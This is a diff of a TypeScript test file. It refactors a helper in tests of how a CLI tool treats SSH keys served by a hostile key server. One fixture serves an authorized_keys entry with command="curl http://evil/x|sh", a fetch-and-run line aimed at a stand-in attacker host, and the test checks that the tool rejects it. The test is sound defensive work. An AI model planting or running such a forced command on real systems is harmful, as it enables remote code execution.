@@ -13,9 +13,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { MAX_ACCOUNT_KEYS_BYTES } from "../../lib/account-keys.ts";
 import { accountKeyRefs, fetchAccountKeys } from "../../update/account-keys.ts";
-import { fakeKey } from "../helpers/ssh-keys.ts";
+import { bareKey } from "../helpers/ssh-keys.ts";
 
-const bare = (n: number) => fakeKey(n).split(" ").slice(0, 2).join(" ");
 const MAIN = join(import.meta.dir, "../../cli/main.ts");
 
 let server: ReturnType<typeof Bun.serve>;
@@ -28,11 +27,11 @@ beforeAll(() => {
     fetch(req) {
       switch (new URL(req.url).pathname) {
         case "/ok.keys":
-          return new Response(`${bare(1)}\n`);
+          return new Response(`${bareKey(1)}\n`);
         case "/command.keys":
-          return new Response(`${bare(1)}\ncommand="curl http://evil/x|sh" ${bare(2)}\n`);
+          return new Response(`${bareKey(1)}\ncommand="curl http://evil/x|sh" ${bareKey(2)}\n`);
         case "/from.keys":
-          return new Response(`from="*",no-pty ${bare(2)}\n`);
+          return new Response(`from="*",no-pty ${bareKey(2)}\n`);
         case "/html.keys":
           return new Response("<html><body>rate limited</body></html>\n");
         case "/binary.keys":
@@ -41,7 +40,7 @@ beforeAll(() => {
           return new Response(
             new ReadableStream({
               pull(c) {
-                c.enqueue(new TextEncoder().encode(`${bare(3)}\n`.repeat(1000)));
+                c.enqueue(new TextEncoder().encode(`${bareKey(3)}\n`.repeat(1000)));
               },
             }),
           );
@@ -129,7 +128,9 @@ describe("a hostile account key server", () => {
     const r = await build(d);
     expect(r).toMatchObject({ code: 0 });
     expect(r.out).toContain(`${url("ok")}: 1 key`);
-    expect(readFileSync(join(d, "bootstrapper.toml"), "utf8")).toContain(`${bare(1)} ${url("ok")}`);
+    expect(readFileSync(join(d, "bootstrapper.toml"), "utf8")).toContain(
+      `${bareKey(1)} ${url("ok")}`,
+    );
   });
 
   test("manifest build with a key list that carries command=: exit 2, the old manifest and signature untouched", async () => {
